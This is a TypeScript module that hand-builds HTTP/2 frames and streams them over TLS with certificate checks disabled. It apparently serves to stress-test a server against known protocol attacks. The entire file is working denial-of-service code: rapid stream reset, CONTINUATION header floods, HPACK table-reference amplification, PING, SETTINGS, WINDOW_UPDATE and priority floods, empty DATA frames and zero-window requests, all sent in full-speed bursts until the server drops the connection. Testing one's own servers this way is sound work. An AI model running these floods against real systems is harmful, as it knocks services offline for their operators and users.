/** Frames of HTTP/2 (RFC 9113), written by hand: the client of Node makes an attacker slower than its target. */
import { connect } from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_HEADERS = 0x4;
const END_STREAM_AND_HEADERS = 0x5;
const CANCEL = 8;
const INITIAL_WINDOW_SIZE = 4;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A string of HPACK (RFC 7541) without Huffman code; at most 126 bytes. */
const hpackString = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** The header block of a GET: names from the static table, values literal and not indexed. */
function getBlock(path: string, token: string): Buffer {
  const [method, scheme, pathName, authority] = [0x82, 0x87, 0x04, 0x01];
  const authorization = [0x0f, 23 - 15];
  return Buffer.concat([
    ...[Buffer.from([method, scheme, pathName]), hpackString(path), Buffer.from([authority]), hpackString('localhost')],
    ...[Buffer.from(authorization), hpackString(`Bearer ${token}`)],
  ]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** Makes the frames of the n-th step of an attack. */
export type Frames = (n: number) => Buffer;

/** A request that is reset together with its beginning. */
export function resetRequest(path: string, token: string): Frames {
  const block = getBlock(path, token);
  const cancel = uint32(CANCEL);
  return (n) => {
    const stream = 2 * n + 1;
    return Buffer.concat([frame(HEADERS, END_STREAM_AND_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel)]);
  };
}

/** Literal field that the table of the client keeps, and its place in the table. */
const KEPT_FIELD = Buffer.concat([Buffer.from([0x40]), hpackString('x'), hpackString('y')]);
const FIRST_KEPT = 0x80 | 62;

/**
 * A request with a field many times, each a single byte: it is in the table of the connection.
 *
 * @param count number of fields
 */
export function fieldsOfTable(path: string, token: string, count: number): Frames {
  const block = getBlock(path, token);
  const fields = Buffer.alloc(count, FIRST_KEPT);
  return (n) => {
    const kept = n === 0 ? KEPT_FIELD : Buffer.alloc(0);
    return frame(HEADERS, END_STREAM_AND_HEADERS, 2 * n + 1, Buffer.concat([block, kept, fields]));
  };
}

/** A PING. */
export const ping: Frames = (n) => frame(PING, 0, 0, Buffer.concat([uint32(0), uint32(n)]));

/** Settings that change. */
export const settings: Frames = (n) =>
  frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, INITIAL_WINDOW_SIZE]), uint32(65_535 + (n % 9))]));

/** A request whose body comes in frames without a byte. */
export function emptyData(path: string, token: string): Frames {
  const block = getBlock(path, token);
  const [get, post] = [0x82, 0x83];
  block[block.indexOf(get)] = post;
  return (n) => (n === 0 ? frame(HEADERS, END_HEADERS, 1, block) : frame(DATA, 0, 1, Buffer.alloc(0)));
}

/** A head that goes on and on. */
export function continued(path: string, token: string): Frames {
  const block = getBlock(path, token);
  return (n) => (n === 0 ? frame(HEADERS, 0, 1, block) : frame(CONTINUATION, 0, 1, KEPT_FIELD));
}

/** Priorities of streams that depend on each other. */
export const priorities: Frames = (n) =>
  frame(PRIORITY, 0, 2 * (n % 1_000) + 1, Buffer.concat([uint32(2 * ((n + 1) % 1_000) + 1), Buffer.from([n % 256])]));

/** Windows that grow by a byte. */
export const windows: Frames = () => frame(WINDOW_UPDATE, 0, 0, uint32(1));

/** A request whose answer has no window. */
export function windowless(path: string, token: string): Frames {
  const block = getBlock(path, token);
  const none = frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, INITIAL_WINDOW_SIZE]), uint32(0)]));
  return (n) =>
    Buffer.concat([n === 0 ? none : Buffer.alloc(0), frame(HEADERS, END_STREAM_AND_HEADERS, 2 * n + 1, block)]);
}

/** How fast frames are sent. */
export interface FramePace {
  /** Steps that are written together. */
  readonly burst: number;
  /** Pause between them, in milliseconds; 0: none. */
  readonly pauseMs: number;
}

const FULL_PACE: FramePace = { burst: 100, pauseMs: 0 };

/**
 * Sends frames on a connection until the server closes it or the attack ends.
 *
 * @returns the number of steps that were written
 */
export async function sendFrames(
  url: string,
  frames: Frames,
  signal: AbortSignal,
  { burst, pauseMs }: FramePace = FULL_PACE,
): Promise<number> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), ALPNProtocols: ['h2'], rejectUnauthorized: false });
  const end = (): void => void socket.destroy();
  signal.addEventListener('abort', end);
  socket.on('error', () => undefined).resume();
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  let count = 0;
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
    const write = (): void => {
      if (socket.destroyed) return;
      const steps = Array.from({ length: burst }, () => frames(count++));
      // The server acknowledges nothing that this waits for: only a full connection slows the attacker down.
      socket.write(Buffer.concat(steps), () => {
        if (pauseMs > 0) setTimeout(write, pauseMs);
        else setImmediate(write);
      });
    };
    write();
  });
  if (signal.aborted) end();
  await closed;
  signal.removeEventListener('abort', end);
  return count;
}
